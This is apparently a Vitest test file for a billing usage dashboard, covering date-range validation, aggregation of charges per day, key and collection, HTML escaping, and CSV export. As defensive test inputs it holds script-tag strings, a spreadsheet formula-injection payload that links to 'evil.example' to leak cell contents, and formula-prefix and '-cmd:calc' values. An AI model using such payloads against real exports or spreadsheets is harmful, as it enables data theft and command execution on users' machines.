// The usage page's rules: the date range as typed (each refusal naming its fix), the charge events folded per day, key
// and collection (adding up to the events' amounts, which the ledger lists), the page keeping a refused form's input,
// and the CSV with the key and collection columns.
import { describe, expect, it } from "vitest";
import {
  dailyUsage,
  dailyUsageOfProjections,
  foldUsage,
  parseUsageRange,
  readUsageReport,
  usageTotals,
  type DatedCharge,
  type UsageReport,
} from "../../src/usecases/dashboard/usageReport.js";
import { usageCsv, usagePage } from "../../src/http/dashboard/usagePage.js";
import { ledgerCsv } from "../../src/usecases/operator/ledgerCsv.js";
import { parse } from "csv-parse/sync";
import type { Viewer } from "../../src/http/dashboard/layout.js";
import { project } from "../../projections/project.js";
import { memoryReader, memoryTables, putRow } from "../../projections/memoryTables.js";
import type { ProjectableEvent } from "../../src/domain/events.js";
import { FEATURE_PROJECTORS } from "../../src/app/projectors.js";

const TODAY = "2026-11-29";

describe("the usage range", () => {
  it("defaults to the last 30 days, takes the quick choices and a from/to pair", () => {
    expect(parseUsageRange({}, TODAY)).toEqual({ ok: true, range: { from: "2026-10-31", to: TODAY } });
    expect(parseUsageRange({ days: "7" }, TODAY)).toEqual({ ok: true, range: { from: "2026-11-23", to: TODAY } });
    expect(parseUsageRange({ days: "90" }, TODAY)).toEqual({ ok: true, range: { from: "2026-09-01", to: TODAY } });
    expect(parseUsageRange({ from: "2026-11-01", to: "2026-11-10" }, TODAY)).toEqual({
      ok: true,
      range: { from: "2026-11-01", to: "2026-11-10" },
    });
    // an empty "to" is today; one day is a range
    expect(parseUsageRange({ from: "2026-11-20", to: "" }, TODAY)).toEqual({
      ok: true,
      range: { from: "2026-11-20", to: TODAY },
    });
    expect(parseUsageRange({ from: TODAY, to: TODAY }, TODAY).ok).toBe(true);
    // a leap year's whole is the longest
    expect(parseUsageRange({ from: "2024-01-01", to: "2024-12-31" }, TODAY).ok).toBe(true);
  });

  it("refuses what it cannot draw, each message naming the fix", () => {
    const error = (input: Parameters<typeof parseUsageRange>[0]) => {
      const r = parseUsageRange(input, TODAY);
      return r.ok ? "accepted" : r.error;
    };
    expect(error({ days: "14" })).toMatch(/days must be 7, 30 or 90/);
    expect(error({ days: "-1" })).toMatch(/days must be 7, 30 or 90/);
    expect(error({ from: "2026-02-30", to: "2026-03-01" })).toMatch(/from must be a day as YYYY-MM-DD/);
    // a month that does not exist is refused too (it threw before, the date having no time to print)
    expect(error({ from: "2026-13-01", to: "2026-03-01" })).toMatch(/from must be a day as YYYY-MM-DD/);
    expect(error({ from: "11/01/2026" })).toMatch(/from must be a day as YYYY-MM-DD \(2026-11-01\)/);
    expect(error({ from: "2026-11-01", to: "tomorrow" })).toMatch(/to must be a day as YYYY-MM-DD/);
    expect(error({ from: "", to: "2026-11-01" })).toMatch(/from is empty/);
    expect(error({ from: "2026-11-10", to: "2026-11-01" })).toBe(
      "from (2026-11-10) is after to (2026-11-01): swap them",
    );
    expect(error({ from: "2026-11-01", to: "2026-12-01" })).toMatch(/is in the future: the last day with usage is/);
    expect(error({ from: "2024-01-01", to: "2025-01-01" })).toMatch(/367 days; choose at most 366/);
    // what was typed is quoted, cut short
    expect(error({ from: "<script>".repeat(10) })).toContain('not "<script><script><scr"');
  });
});

const charge = (
  type: "SearchCharged" | "ResultsUnlocked",
  recordedAt: string,
  keyId: string,
  lines: [string, number, string, number?][],
): DatedCharge =>
  ({
    type,
    recordedAt,
    data: {
      orgId: "org_1",
      keyId,
      queryId: "q_1",
      billingMode: "live",
      tokens: lines.reduce((s, l) => s + l[1], 0),
      amountMicros: String(lines.reduce((s, l) => s + BigInt(l[2]), 0n)),
      collections: lines.map(([collection, tokens, amountMicros, results]) => ({
        collection,
        tokens,
        amountMicros,
        pricePer1000Micros: "1000",
        results,
      })),
      ...(type === "SearchCharged" ? { endpoint: "query" } : { resultIds: [], workflowId: "w" }),
    },
  }) as DatedCharge;

const EVENTS: DatedCharge[] = [
  charge("SearchCharged", "2026-11-27T09:00:00.000Z", "key_a", [
    ["scifact", 100, "120000"],
    ["biomedical", 50, "60000"],
  ]),
  charge("SearchCharged", "2026-11-28T23:59:59.999Z", "key_b", [["scifact", 10, "15000"]]),
  charge("ResultsUnlocked", "2026-11-29T00:00:00.000Z", "key_a", [["scifact", 40, "400000", 2]]),
  {
    type: "ToolCallCharged",
    recordedAt: "2026-11-29T08:00:00.000Z",
    data: { orgId: "org_1", keyId: "key_b", callId: "c", tool: "t", billingMode: "live", amountMicros: "7000" },
  },
];

describe("usage per day, key and collection", () => {
  it("counts a search once on each collection, an unlock's rows, a tool call on the (tools) line", () => {
    const lines = foldUsage(EVENTS);
    expect(lines.map((l) => [l.day, l.keyId, l.collection, l.searches, l.unlockedResults, l.spendMicros])).toEqual([
      ["2026-11-27", "key_a", "biomedical", 1, 0, 60_000n],
      ["2026-11-27", "key_a", "scifact", 1, 0, 120_000n],
      ["2026-11-28", "key_b", "scifact", 1, 0, 15_000n],
      ["2026-11-29", "key_b", "(tools)", 0, 0, 7_000n],
      ["2026-11-29", "key_a", "scifact", 0, 2, 400_000n],
    ]);
  });

  it("per-key and per-collection totals both add up to the events' amounts (the ledger's charges)", () => {
    const lines = foldUsage(EVENTS);
    const charged = EVENTS.reduce((s, e) => s + BigInt(e.data.amountMicros), 0n);
    const byKey = usageTotals(lines, (l) => l.keyId);
    expect(byKey.map((g) => [g.name, g.spendMicros])).toEqual([
      ["key_a", 580_000n],
      ["key_b", 22_000n],
    ]);
    expect(byKey.reduce((s, g) => s + g.spendMicros, 0n)).toBe(charged);
    expect(usageTotals(lines, (l) => l.collection).reduce((s, g) => s + g.spendMicros, 0n)).toBe(charged);
  });

  it("reads the overview's days from the projections as the events fold them (replayed from the same events)", () => {
    const tables = memoryTables(FEATURE_PROJECTORS.tables);
    const created = {
      type: "OrganizationCreated",
      recordedAt: "2026-11-01T00:00:00.000Z",
      data: { orgId: "org_1", name: "Lab", billingMode: "live", limits: {}, hideBalance: false },
    };
    [created, ...EVENTS].forEach((e, i) => {
      const event = { ...e, position: i + 1, streamVersion: i + 1 } as unknown as ProjectableEvent;
      for (const c of project(FEATURE_PROJECTORS, event, memoryReader(tables)))
        putRow(tables, FEATURE_PROJECTORS.tables[c.table], c.row);
    });
    const daySpend = new Map(
      [...tables.usage.values()]
        .filter((u) => u.period.startsWith("d:"))
        .map((u) => [u.period.slice(2), BigInt(u.amount_micros)] as const),
    );
    const fromProjections = dailyUsageOfProjections([...tables.collection_usage.values()], daySpend);
    expect(fromProjections).toEqual(dailyUsage({ lines: foldUsage(EVENTS) }));
    expect(fromProjections.map((r) => [r.day, r.collection, r.spendMicros])).toEqual([
      ["2026-11-27", "biomedical", 60_000n],
      ["2026-11-27", "scifact", 120_000n],
      ["2026-11-28", "scifact", 15_000n],
      ["2026-11-29", "(tools)", 7_000n],
      ["2026-11-29", "scifact", 400_000n],
    ]);
  });

  it("reads only the range's events of the organization's stream", async () => {
    const asked: unknown[][] = [];
    const db = {
      query: async (sql: string, params: unknown[]) => {
        asked.push([sql.includes("FROM events") ? "events" : "keys", params]);
        return [];
      },
    } as unknown as Parameters<typeof readUsageReport>[0];
    const report = await readUsageReport(db, "org_1", { from: "2026-11-27", to: "2026-11-29" });
    expect(report.days).toEqual(["2026-11-27", "2026-11-28", "2026-11-29"]);
    expect(asked[0]).toEqual(["events", ["org-org_1", "2026-11-27T00:00:00Z", "2026-11-30T00:00:00Z"]]);
  });
});

const viewer: Viewer = {
  principal: { kind: "member", memberId: "m_1", orgId: "org_1", role: "owner" },
  email: "owner@example.org",
  orgName: "Example Lab",
  csrfToken: "t",
} as Viewer;

const report = (): UsageReport => ({
  range: { from: "2026-11-27", to: TODAY },
  days: ["2026-11-27", "2026-11-28", TODAY],
  lines: foldUsage(EVENTS),
  keys: new Map([
    ["key_a", { prefix: "sk_live_abcd", name: 'Lab "<b>notebook</b>", 2026' }],
    ["key_b", { prefix: "sk_live_efgh", name: null }],
  ]),
});

describe("the usage page and CSV", () => {
  it("keeps a refused range's input in the form, escaped, with the reason", () => {
    const page = usagePage(viewer, {
      error: "from (2026-11-10) is after to (2026-11-01): swap them",
      input: { from: "2026-11-10", to: '2026-11-01"><script>' },
    }).text;
    expect(page).toContain('role="alert">from (2026-11-10) is after to (2026-11-01): swap them');
    expect(page).toContain('id="usage-from" name="from"\n value="2026-11-10"');
    expect(page).toContain('value="2026-11-01&quot;&gt;&lt;script&gt;"');
    expect(page).not.toContain("<script>");
  });

  it("draws every day, the breakdowns by collection and key with totals, and the range's CSV link", () => {
    const page = usagePage(viewer, { report: report(), input: {}, quickDays: 30 }).text;
    for (const id of ["chart-spend", "chart-searches", "chart-tokens", "chart-key-spend"])
      expect(page).toContain(`id="${id}"`);
    // three days, three marks on each chart's axis
    const spendChart = page.slice(page.indexOf('id="chart-spend"'), page.indexOf('id="chart-searches"'));
    expect(spendChart.match(/class="mark"/g)).toHaveLength(3);
    expect(spendChart).toContain("per day from 2026-11-27 to 2026-11-29");
    const byKey = page.slice(page.indexOf('id="usage-by-key"'));
    expect(byKey).toContain("&lt;b&gt;notebook&lt;/b&gt;");
    expect(byKey).toMatch(/<tr class="total">\s*<td>Total<\/td><td class="num">3<\/td><td class="num">2<\/td>/);
    expect(byKey).toContain('<td class="num">0.602000</td></tr></tbody>');
    expect(page).toContain('href="/dashboard/usage.csv?from=2026-11-27&amp;to=2026-11-29"');
    expect(page).toContain(`<a href="/dashboard/usage?days=30" aria-current="true">Last 30\n days</a>`);
  });

  it("exports a line per day, key and collection with the key's name quoted", () => {
    expect(usageCsv(report()).split("\n")).toEqual([
      "day,key_id,key,collection,searches,unlocked_results,tokens,spend",
      '2026-11-27,key_a,"Lab ""<b>notebook</b>"", 2026 (sk_live_abcd…)",biomedical,1,0,50,0.060000',
      '2026-11-27,key_a,"Lab ""<b>notebook</b>"", 2026 (sk_live_abcd…)",scifact,1,0,100,0.120000',
      "2026-11-28,key_b,sk_live_efgh…,scifact,1,0,10,0.015000",
      "2026-11-29,key_b,sk_live_efgh…,(tools),0,0,0,0.007000",
      '2026-11-29,key_a,"Lab ""<b>notebook</b>"", 2026 (sk_live_abcd…)",scifact,0,2,40,0.400000',
      "",
    ]);
  });

  it("exports a key name or a credit's reference a spreadsheet would run as a formula as text", () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const named = { ...report(), keys: new Map([["key_a", { prefix: "sk_live_abcd", name: formula }]]) };
    const usage = parse(usageCsv(named), { columns: true }) as Record<string, string>[];
    expect(usage[0]!.key).toBe(`'${formula} (sk_live_abcd…)`);
    const entry = { time: "2026-11-29T10:00:00.000Z", type: "credit", keyId: null, queryId: null };
    const ledger = parse(
      ledgerCsv(
        ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "grant 2026", null].map((reference) => ({
          ...entry,
          amount: "-0.010000",
          balanceAfter: "-0.020000",
          reference,
          // a caller's own X-Request-Id may start with "-" too
          requestId: reference === "-2" ? "-cmd:calc" : null,
        })),
      ),
      { columns: true },
    ) as Record<string, string>[];
    expect(ledger.map((r) => r.reference)).toEqual(["'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "grant 2026", ""]);
    expect(ledger.map((r) => r.request_id)).toEqual(["", "", "'-cmd:calc", "", "", "", ""]);
    // amounts stay numbers
    expect(ledger.every((r) => r.amount === "-0.010000" && r.balance_after === "-0.020000")).toBe(true);
  });
});
